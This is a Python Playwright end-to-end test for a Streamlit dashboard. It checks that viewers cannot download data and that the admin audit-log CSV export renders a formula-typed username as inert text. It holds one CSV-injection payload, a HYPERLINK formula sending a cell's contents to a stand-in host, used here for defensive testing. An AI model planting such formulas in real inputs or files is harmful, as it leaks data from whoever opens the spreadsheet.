"""Downloads in a real browser (issue 13, findings 4 and 7): a viewer gets no download at all —
neither the app's buttons nor Streamlit's own table icon —, and the audit log an administrator
downloads carries a user name typed as a spreadsheet formula as inert text."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from dashboard.i18n import translate
from queries.db import make_engine
from tests.conftest import copy_database
from tests.e2e.server import prepare, runs, serve_app, submit_sign_in, wait_for_app, wait_for_rerun

pytestmark = pytest.mark.e2e
VIEWER = ("viewer1", "viewer-password-1")
ADMIN = ("admin1", "admin-password-1")
FORMULA = '=HYPERLINK("http://x.invalid/?"&B3,"open")'


@pytest.fixture(scope="module")
def app_url(demo_template: str, tmp_path_factory) -> Iterator[str]:
    from queries.access.accounts import create_user

    url = copy_database(demo_template, tmp_path_factory.mktemp("downloads") / "senim.db")
    engine = make_engine(url)
    create_user(engine, *VIEWER, role="viewer")
    create_user(engine, *ADMIN, role="admin")
    engine.dispose()
    env = {"SENIM_REQUIRE_LOGIN": "1"}
    with serve_app(url, log_name="streamlit-downloads.log", env=env) as (app, _process):
        yield app


def open_page(browser: Browser, url: str) -> Page:
    context = browser.new_context(viewport={"width": 1440, "height": 1000}, accept_downloads=True)
    page = context.new_page()
    page.set_default_timeout(60_000)
    prepare(page)
    page.goto(url)
    wait_for_app(page)
    return page


def test_a_viewer_gets_no_download(browser: Browser, app_url: str):
    page = open_page(browser, f"{app_url}/feedback?lang=en")
    submit_sign_in(page, VIEWER, "en", title_key="feedback.title")
    table = page.locator('[data-testid="stDataFrame"]').first
    expect(table).to_be_visible()
    table.hover()  # Streamlit shows a table's toolbar on hover
    expect(page.get_by_role("button", name=translate("common.download_csv", "en"))).to_have_count(0)
    expect(page.get_by_role("button", name="Download as CSV")).to_have_count(0)
    page.context.close()


def test_the_audit_log_downloads_a_formula_as_text(browser: Browser, app_url: str):
    page = open_page(browser, f"{app_url}/?lang=en")
    # a failed sign-in whose user name is a formula: it lands in the audit log
    page.get_by_label(translate("auth.username", "en")).fill(FORMULA)
    page.get_by_label(translate("auth.password", "en"), exact=True).fill("wrong-password")
    before = runs(page)
    page.get_by_role("button", name=translate("auth.sign_in", "en")).click()
    wait_for_rerun(page, before)
    submit_sign_in(page, ADMIN, "en", title_key="overview.title")
    before = runs(page)  # through the menu: app.py keeps the sign-in in the tab, not a cookie
    nav = page.locator('[data-testid="stSidebarNav"]')
    nav.get_by_text(translate("nav.audit", "en"), exact=True).click()
    wait_for_rerun(page, before)
    expect(page.locator("h1").first).to_have_text(translate("audit.title", "en"))
    expect(page.get_by_role("button", name="Download as CSV")).to_have_count(0)
    with page.expect_download() as pending:
        page.get_by_role("button", name=translate("common.download_csv", "en")).click()
    text = open(pending.value.path(), encoding="utf-8-sig").read()  # noqa: SIM115
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any(FORMULA in cell for cell in cells), "the failed sign-in is in the download"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells if FORMULA in cell)
    page.context.close()
